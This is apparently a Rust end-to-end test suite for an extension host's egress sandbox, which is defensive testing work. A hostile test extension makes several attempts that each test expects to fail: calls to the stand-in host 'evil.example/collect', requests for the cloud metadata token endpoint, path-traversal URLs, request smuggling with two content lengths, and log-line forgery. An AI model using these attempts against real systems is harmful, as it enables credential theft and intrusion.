//! Attempts of a hostile extension, one a test. Each "cannot" is an attempt that fails.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic)]

use end_to_end::{Azure, Headless, artifact, fixture, job};
use extension_host::egress::Decision;
use extension_host::engine::Cancel;
use extension_host::runner::{Cause, Report, Status};
use std::time::Duration;

const COMPONENT: &str = "hostile_extension.wasm";
const JOB: &str = "inventory-service-principal";

/// A policy that is the built-in one, and tells the extension what to try.
fn trying(attempt: &str, argument: &str) -> String {
    format!("[options]\nattempt = {attempt:?}\nargument = {argument:?}\n")
}

async fn attempt(attempt: &str, argument: &str) -> (Headless, Report) {
    let headless = Headless::new(COMPONENT, &trying(attempt, argument));
    let report = headless.run(&job(JOB)).await;
    (headless, report)
}

#[tokio::test(start_paused = true)]
async fn one_that_does_nothing_wrong_succeeds() {
    let (_, report) = attempt("nothing", "").await;
    assert_eq!(report.status, Status::Success, "{}", report.message);
}

#[tokio::test(start_paused = true)]
async fn calling_another_host_is_denied_and_fails_the_job_that_says_success() {
    let (headless, report) = attempt("get", "https://evil.example/collect").await;
    assert_eq!(report.status, Status::Failure(Cause::Denied));
    assert!(
        report.message.contains("evil.example"),
        "{}",
        report.message
    );
    assert!(
        report.message.contains("HttpRequestDenied"),
        "the guest was told: {}",
        report.message
    );
    assert!(report.list.is_none());
    assert_eq!(headless.emulator.requests(), []);
    let audit = headless.audit();
    assert_eq!(audit.len(), 1);
    assert_eq!(audit[0].decision, Decision::Denied);
    assert_eq!(audit[0].host, "evil.example");
    assert_eq!(audit[0].path, "/collect");
    assert_eq!(audit[0].reason.as_deref(), Some("host"));
    assert_eq!(audit[0].job, 4701);
}

#[tokio::test(start_paused = true)]
async fn one_call_is_denied_without_a_rule_and_answered_with_one() {
    // A host that the emulator plays, and that no inventory in the public cloud needs.
    let elsewhere = "https://login.microsoftonline.us/collect";
    let (headless, report) = attempt("get", elsewhere).await;
    assert_eq!(report.status, Status::Failure(Cause::Denied));
    assert_eq!(headless.emulator.requests(), []);

    let policy = format!(
        "{}\n[[rule]]\nid = \"report\"\njobs = [\"inventory\"]\nmethod = \"GET\"\nurl = \"{elsewhere}\"\n",
        trying("get", elsewhere)
    );
    let headless = Headless::new(COMPONENT, &policy);
    let report = headless.run(&job(JOB)).await;
    assert_eq!(report.status, Status::Success, "{}", report.message);
    assert!(report.message.contains("status 4"), "{}", report.message);
    assert_eq!(headless.audit()[0].decision, Decision::Allowed);
    assert_eq!(headless.audit()[0].rule.as_deref(), Some("report"));
    assert_eq!(headless.emulator.requests().len(), 1);
}

#[tokio::test(start_paused = true)]
async fn requests_that_the_job_does_not_need_are_denied_one_by_one() {
    let vault = "https://kv-one.vault.azure.net";
    for (attempted, url, reason) in [
        ("delete", format!("{vault}/certificates/cert-01?api-version=7.6"), "method"),
        ("get", format!("{vault}/secrets/cert-01?api-version=7.6"), "path"),
        ("get", format!("{vault}/certificates/contacts?api-version=7.6"), "path"),
        ("get", format!("{vault}/certificates?api-version=7.6&leak=secret"), "query"),
        ("get", format!("{vault}:8443/certificates?api-version=7.6"), "host"),
        ("get", "https://kv-two.vault.azure.net/certificates?api-version=7.6".to_owned(), "host"),
        ("get", "http://kv-one.vault.azure.net/certificates?api-version=7.6".to_owned(), "host"),
        ("get", "http://169.254.169.254/metadata/identity/oauth2/token".to_owned(), "host"),
        ("get", "https://127.0.0.1/".to_owned(), "host"),
        ("get", format!("{vault}/certificates/../secrets?api-version=7.6"), "url"),
        ("get", format!("{vault}/certificates%2fcert-01?api-version=7.6"), "url"),
        ("header", format!("{vault}/certificates?api-version=7.6"), "header"),
        ("post", format!("{vault}/certificates/cert-01/import?api-version=7.6"), "path"),
        ("post", "https://login.microsoftonline.com/11111111-1111-4111-8111-111111111111/oauth2/v2.0/token".to_owned(), "body"),
        ("post", "https://login.microsoftonline.com/99999999-9999-4999-8999-999999999999/oauth2/v2.0/token".to_owned(), "path"),
    ] {
        let (headless, report) = attempt(attempted, &url).await;
        assert_eq!(report.status, Status::Failure(Cause::Denied), "{attempted} {url}");
        assert_eq!(headless.emulator.requests(), [], "{attempted} {url}");
        let audit = headless.audit();
        assert_eq!(audit[0].reason.as_deref(), Some(reason), "{attempted} {url}");
        assert!(report.message.contains("HttpRequestDenied"), "{url}: {}", report.message);
    }
}

/// However a request to another host is made, it is denied, recorded once, and fails the
/// job; nothing leaves.
#[tokio::test(start_paused = true)]
async fn no_way_of_asking_makes_another_host_reachable_or_forgiven() {
    for way in ["large-body", "trailers", "unfinished-body", "not-waiting"] {
        let (headless, report) = attempt(way, "https://evil.example/collect").await;
        assert_eq!(
            report.status,
            Status::Failure(Cause::Denied),
            "{way}: {}",
            report.message
        );
        assert!(report.list.is_none(), "{way}");
        assert_eq!(report.traffic.denied, 1, "{way}");
        let audit = headless.audit();
        assert_eq!(audit.len(), 1, "{way}");
        assert_eq!(audit[0].decision, Decision::Denied, "{way}");
        assert_eq!(headless.emulator.requests(), [], "{way}");
    }
}

/// One that is granted, and given up before it was sent, is no denial and no request either.
#[tokio::test(start_paused = true)]
async fn a_granted_request_that_nobody_waits_for_is_recorded_as_not_sent() {
    let one = "https://kv-one.vault.azure.net/certificates/cert-01?api-version=7.6";
    let (headless, report) = attempt("not-waiting", one).await;
    assert_eq!(report.status, Status::Success, "{}", report.message);
    assert_eq!((report.traffic.sent, report.traffic.denied), (0, 0));
    // What was given up is dropped when the runtime comes to it.
    tokio::task::yield_now().await;
    assert_eq!(headless.emulator.requests(), []);
    let audit = headless.audit();
    assert_eq!(audit.len(), 1);
    assert_eq!(audit[0].decision, Decision::Unsent);
    assert_eq!(audit[0].path, "/certificates/{name}");
    assert_eq!(audit[0].rule, None);
}

#[tokio::test(start_paused = true)]
async fn trailers_and_large_bodies_are_denied_where_the_head_is_granted() {
    let list = "https://kv-one.vault.azure.net/certificates?api-version=7.6";
    let token =
        "https://login.microsoftonline.com/11111111-1111-4111-8111-111111111111/oauth2/v2.0/token";
    for (way, url) in [("trailers", list), ("large-body", token)] {
        let (headless, report) = attempt(way, url).await;
        assert_eq!(
            report.status,
            Status::Failure(Cause::Denied),
            "{way}: {}",
            report.message
        );
        assert_eq!(headless.audit()[0].reason.as_deref(), Some("body"), "{way}");
        assert_eq!(headless.emulator.requests(), [], "{way}");
    }
}

/// GHSA-5qpp-g3j2-8frx: the socket went to the checked host, the request line named another.
#[tokio::test(start_paused = true)]
async fn an_absolute_url_as_path_goes_nowhere() {
    let (headless, report) = attempt("absolute-path", "https://kv-one.vault.azure.net/x").await;
    assert_eq!(report.message, "refused");
    assert_eq!(headless.emulator.requests(), []);
    assert_eq!(headless.audit().len(), 0);
}

/// GHSA-r8xh-cgf7-392j and its kin: request smuggling by two lengths.
#[tokio::test(start_paused = true)]
async fn two_content_lengths_go_nowhere() {
    let token =
        "https://login.microsoftonline.com/11111111-1111-4111-8111-111111111111/oauth2/v2.0/token";
    let (headless, report) = attempt("two-lengths", token).await;
    assert_eq!(report.message, "refused");
    assert_eq!(headless.emulator.requests(), []);
    assert_eq!(headless.audit().len(), 0);
}

#[tokio::test(start_paused = true)]
async fn after_as_many_requests_as_a_job_may_send_nothing_more_leaves() {
    let vault = "https://kv-one.vault.azure.net/certificates?api-version=7.6";
    let mut headless = Headless::new(COMPONENT, &trying("get", vault));
    headless.host.limits.requests = 0;
    let report = headless.run(&job(JOB)).await;
    assert_eq!(headless.emulator.requests(), []);
    assert_eq!(headless.audit()[0].decision, Decision::Limited);
    assert!(
        report.message.contains("ConnectionLimitReached"),
        "{}",
        report.message
    );
}

#[tokio::test(start_paused = true)]
async fn hoarding_handles_ends_the_job() {
    let (_, report) = attempt("hoard", "").await;
    assert_eq!(report.status, Status::Failure(Cause::Other));
    assert!(
        report.message.contains("ended abnormally"),
        "{}",
        report.message
    );
}

#[tokio::test(start_paused = true)]
async fn waiting_is_not_cpu_time() {
    let mut headless = Headless::new(COMPONENT, &trying("naps", "2000"));
    headless.host.limits.cpu = Duration::from_secs(5);
    let report = headless.run(&job(JOB)).await;
    assert_eq!(report.status, Status::Success, "{}", report.message);
}

#[tokio::test(start_paused = true)]
async fn a_panic_is_a_failure_with_its_text_as_far_as_there_is_one() {
    let (_, report) = attempt("panic", "").await;
    assert_eq!(report.status, Status::Failure(Cause::Other));
    assert!(
        report.message.contains("ended abnormally"),
        "{}",
        report.message
    );
    assert!(report.list.is_none());
}

#[tokio::test(start_paused = true)]
async fn what_was_submitted_before_a_panic_is_not_handed_on() {
    let (_, report) = attempt("submit-then-panic", "").await;
    assert_eq!(report.status, Status::Failure(Cause::Other));
    assert!(report.list.is_none());
}

#[tokio::test(start_paused = true)]
async fn a_stack_overflow_is_a_failure() {
    let (_, report) = attempt("overflow-stack", "").await;
    assert_eq!(report.status, Status::Failure(Cause::Other));
}

#[tokio::test(start_paused = true)]
async fn memory_without_end_is_a_failure_that_names_the_limit() {
    let (headless, report) = attempt("allocate", "").await;
    assert_eq!(report.status, Status::Failure(Cause::Other));
    assert!(report.message.contains("64 MiB"), "{}", report.message);
    // The next job of the same engine is unaffected.
    drop(headless);
    let (_, next) = attempt("submit-inventory", "").await;
    assert_eq!(next.status, Status::Success, "{}", next.message);
    assert_eq!(next.list.unwrap().entries(), 1);
}

#[tokio::test(start_paused = true)]
async fn spinning_ends_with_the_cpu_time() {
    let mut headless = Headless::new(COMPONENT, &trying("spin", ""));
    headless.host.limits.cpu = Duration::from_millis(100);
    let report = headless.run(&job(JOB)).await;
    assert_eq!(report.status, Status::Failure(Cause::Deadline));
    assert!(report.message.contains("CPU time"), "{}", report.message);
}

#[tokio::test(start_paused = true)]
async fn sleeping_ends_with_the_deadline() {
    let (headless, report) = attempt("sleep", "").await;
    assert_eq!(report.status, Status::Failure(Cause::Deadline));
    assert!(report.message.contains("time limit"), "{}", report.message);
    assert_eq!(headless.emulator.requests(), []);
}

#[tokio::test(start_paused = true)]
async fn one_that_ignores_a_cancellation_is_ended_after_the_grace() {
    let headless = Headless::new(COMPONENT, &trying("sleep", ""));
    let cancel = Cancel::new();
    cancel.cancel();
    let before = tokio::time::Instant::now();
    let report = headless.run_cancellable(&job(JOB), cancel).await;
    assert_eq!(
        report.status,
        Status::Failure(Cause::Cancelled),
        "{}",
        report.message
    );
    assert!(before.elapsed() < Duration::from_secs(30));
}

#[tokio::test(start_paused = true)]
async fn a_refused_submission_fails_the_job_that_says_success() {
    for (name, says) in [
        ("submit-twice", "twice"),
        ("submit-blank", "no alias"),
        ("submit-discovery", "no discovery"),
        ("large-aliases", "longer than 256 bytes"),
    ] {
        let (_, report) = attempt(name, "").await;
        assert!(matches!(report.status, Status::Failure(_)), "{name}");
        assert!(report.message.contains(says), "{name}: {}", report.message);
        assert!(report.list.is_none(), "{name}");
    }
}

#[tokio::test(start_paused = true)]
async fn log_lines_are_bounded_in_number_and_length() {
    let (headless, report) = attempt("flood-log", "5000").await;
    assert_eq!(report.status, Status::Success, "{}", report.message);
    let lines = headless.log.lines();
    assert_eq!(lines.len(), 1_000);
    assert!(lines.iter().all(|(_, line)| line.len() <= 1_024 + 4));
}

#[tokio::test(start_paused = true)]
async fn a_log_line_cannot_become_two_or_move_the_cursor() {
    let (headless, _) = attempt("forge-log", "").await;
    let lines = headless.log.lines();
    assert_eq!(lines.len(), 1);
    assert!(!lines[0].1.contains(['\n', '\u{1b}']), "{:?}", lines[0].1);
}

#[tokio::test(start_paused = true)]
async fn a_message_is_cut_to_what_the_platform_stores() {
    let (_, report) = attempt("long-message", "").await;
    assert_eq!(report.message.encode_utf16().count(), 4_000);
}

#[tokio::test(start_paused = true)]
async fn there_is_no_assertion_for_a_job_with_a_secret() {
    let (_, report) = attempt("assertion", "").await;
    assert!(
        report.message.contains("no federated identity"),
        "{}",
        report.message
    );
}

#[test]
fn a_job_on_its_own_thread_ends_the_same_way() {
    let azure = Azure::start();
    azure.append_policy(&trying("get", "https://evil.example/collect"));
    let audit = azure.file("audit.jsonl", "");
    let component = artifact(COMPONENT);
    let ran = azure.run(
        &fixture(JOB),
        &[
            "--component",
            component.to_str().unwrap(),
            "--audit",
            audit.to_str().unwrap(),
        ],
    );
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    let result = ran.json();
    assert_eq!(result["Result"], 4);
    assert!(result.get("Inventory").is_none());
    assert!(
        result["FailureMessage"]
            .as_str()
            .unwrap()
            .contains("evil.example")
    );
    assert!(
        ran.stderr.contains("[[rule]]") && ran.stderr.contains("jobs = [\"inventory\"]"),
        "a rule to paste, for this kind of job: {}",
        ran.stderr
    );
    let audit = std::fs::read_to_string(audit).unwrap();
    assert!(audit.contains("\"decision\":\"denied\""), "{audit}");
    assert!(audit.contains("evil.example"), "{audit}");
    assert_eq!(azure.emulator.requests(), []);
}

#[test]
fn no_rule_is_offered_that_would_lead_into_the_machine() {
    let azure = Azure::start();
    azure.append_policy(&trying("get", "http://169.254.169.254/metadata/instance"));
    let component = artifact(COMPONENT);
    let ran = azure.run(&fixture(JOB), &["--component", component.to_str().unwrap()]);
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    assert!(!ran.stderr.contains("[[rule]]"), "{}", ran.stderr);
    assert!(ran.stderr.contains("no policy can"), "{}", ran.stderr);
}

#[test]
fn w21_a_panic_on_its_own_thread_leaves_a_result() {
    let azure = Azure::start();
    azure.append_policy(&trying("panic", ""));
    let component = artifact(COMPONENT);
    let ran = azure.run(&fixture(JOB), &["--component", component.to_str().unwrap()]);
    assert_eq!((ran.code, &ran.json()["Result"]), (1, &4.into()));
    assert_eq!(ran.json()["JobHistoryId"], 4701);
}

/// A host that fails while it runs a job ends that job, with a result, and no other.
#[tokio::test]
async fn a_panic_of_the_host_itself_leaves_a_result_and_the_next_job_unharmed() {
    struct Panics;

    impl extension_host::runner::Observer for Panics {
        fn log(&mut self, _: extension_host::engine::vocabulary::LogLevel, _: &str) {
            panic!("on purpose");
        }

        fn progress(&mut self, _: u64, _: Option<u64>) {}
    }

    let mut headless = Headless::new(COMPONENT, &trying("flood-log", "1"));
    headless.host.threads = extension_host::runner::Threads::PerJob;
    let report = headless
        .host
        .run(job(JOB), Cancel::new(), Box::new(Panics))
        .await;
    assert_eq!(report.status, Status::Failure(Cause::Other));
    assert!(
        report.message.contains("the host failed") && report.message.contains("on purpose"),
        "{}",
        report.message
    );
    let next = headless.run(&job(JOB)).await;
    assert_eq!(next.status, Status::Success, "{}", next.message);
}
